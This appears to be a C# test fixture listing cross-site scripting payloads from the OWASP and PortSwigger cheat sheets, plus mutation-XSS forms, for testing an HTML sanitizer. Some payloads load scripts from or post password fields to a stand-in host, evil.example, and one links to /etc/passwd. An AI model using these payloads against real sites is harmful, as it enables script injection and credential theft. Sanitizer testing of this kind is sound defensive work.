namespace Personalization.Core.Tests.Patches;

/// <summary>
/// Markup that runs code, or ran it in some browser. The forms are those of the OWASP XSS Filter Evasion Cheat Sheet and of the
/// PortSwigger cross-site scripting cheat sheet, plus mutation XSS as published against DOMPurify and mXSS against innerHTML.
/// </summary>
internal static class XssPayloads
{
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<script/src=//evil.example></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>", "<script>", "</script><script>alert(1)</script>",
        "<script x>alert(1)</script y>", "<<script>alert(1);//<</script>", "<script type=\"text/plain\">x</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<img src='x' ONERROR='alert(1)'>",
        "<img/src=x/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x:x onerror\n=\nalert(1)>",
        "<img src=`x` onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"a\" src=\"b\" onload=\"alert(1)\">",
        "<img src=\"javascript:alert(1)\">", "<img src=\"jav\tascript:alert(1)\">", "<img src=\"jav&#x09;ascript:alert(1);\">",
        "<img src=\"jav&#x0A;ascript:alert(1);\">", "<img src=\" &#14; javascript:alert(1);\">", "<img src=\"vbscript:msgbox(1)\">",
        "<img srcset=\"javascript:alert(1) 1x\">", "<img srcset=\"/a.png 1x, javascript:alert(1) 2x\">", "<img lowsrc=\"javascript:alert(1)\">",
        "<img dynsrc=\"javascript:alert(1)\">", "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img src=\"data:image/svg+xml,%3Csvg onload=alert(1)%3E\">",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=\"java&NewLine;script:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"\u00A0javascript:alert(1)\">x</a>", "<a href=\"java\u200Bscript:alert(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"data:image/png;base64,iVBORw0KGgo=\">x</a>", "<a href=\"vbscript:x\">x</a>", "<a href=\"livescript:x\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>", "<a href=\"view-source:javascript:x\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"blob:https://x/1\">x</a>", "<a href=\"#\" onclick=\"alert(1)\">x</a>", "<a href=\"#\" ping=\"https://evil.example\">x</a>",
        "<a href='javascript:alert(1)'>x</a>", "<a href=javascript:alert(1)>x</a>", "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
        "<a href=\"jav&unknownname;ascript:alert(1)\">x</a>", "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe/onload=alert(1)>",
        "<frameset onload=\"alert(1)\"></frameset>", "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">",
        "<applet code=\"x\"></applet>", "<base href=\"https://evil.example/\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "<style>@import 'https://evil.example/x.css';</style>",
        "<style>li{list-style:url(javascript:alert(1))}</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"position:fixed;inset:0\">x</div>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>", "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
        "<svg><foreignObject><body onload=\"alert(1)\"></foreignObject></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>", "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<title></title><script>alert(1)</script>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
        "<form action=\"https://evil.example\"><input name=\"password\"></form>", "<button formaction=\"javascript:alert(1)\">x</button>",
        "<button form=\"login\" formaction=\"https://evil.example\">x</button>", "<input autofocus onfocus=alert(1)>", "<input type=\"image\" src=\"javascript:alert(1)\">",
        "<select autofocus onfocus=alert(1)></select>", "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
        "<isindex action=\"javascript:alert(1)\" type=\"image\">", "<body onload=\"alert(1)\">", "<body background=\"javascript:alert(1)\">",
        "<html onmouseover=\"alert(1)\">", "<video><source onerror=\"alert(1)\"></video>", "<video poster=\"javascript:alert(1)\"></video>",
        "<audio src=\"x\" onerror=\"alert(1)\"></audio>", "<details open ontoggle=\"alert(1)\">x</details>", "<marquee onstart=\"alert(1)\">x</marquee>",
        "<div onpointerover=\"alert(1)\">x</div>", "<div\tonmouseover\t=\t\"alert(1)\">x</div>", "<div/onmouseover='alert(1)'>x</div>",
        "<div onmouseover=alert(1)//\">x</div>", "<x-card onclick=\"alert(1)\">x</x-card>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!-- x -->", "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE html>",
        "<?xml version=\"1.0\"?>", "<?import namespace=\"t\" implementation=\"#default#time2\">", "<!ENTITY x SYSTEM \"x\">", "<//evil>", "< script>alert(1)</ script>",
        "<div title=\"<img src=x onerror=alert(1)>\">x</div>", "<p><b>x</p></b>", "<div>", "</div>", "<div><p>x</div></p>", "<div", "<div class=\"a", "<div class=\"a\" =\"b\">x</div>",
        "<a href=\"#\"><a href=\"#\">x</a></a>", "<p><div>x</div></p>", "<table><div>x</div></table>", "<div/>", "\uFDD0", "a\0b",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>", "<q cite=\"data:text/html,x\">x</q>", "<track src=\"javascript:alert(1)\">",
    ];

    /// <summary>Values that break out of text, attributes and addresses where they are written without care.</summary>
    public static IReadOnlyList<string> Values { get; } =
    [
        "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
        "</li></ul><script>alert(1)</script>", "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)", "\u0001javascript:alert(1)", "java\0script:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml,<svg onload=alert(1)>", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "&lt;script&gt;", "&amp;lt;", "&", "<", ">",
        "{{name}}", "{{#items}}", "{{{x}}}", "\uFDD0\uFDD1\uFDD2\uFDD3", "\\u003cscript\\u003e", "\u2028", "//evil.example/x", "/\\evil.example", "\\\\evil.example",
        "--><script>", "]]>", "a\"b'c", "\r\n", "\uD800", "x\uDC00y", "\uD83D\uDE00", "`${alert(1)}`", "%22%3E", "x onerror=alert(1)", "about:blank", "",
    ];
}
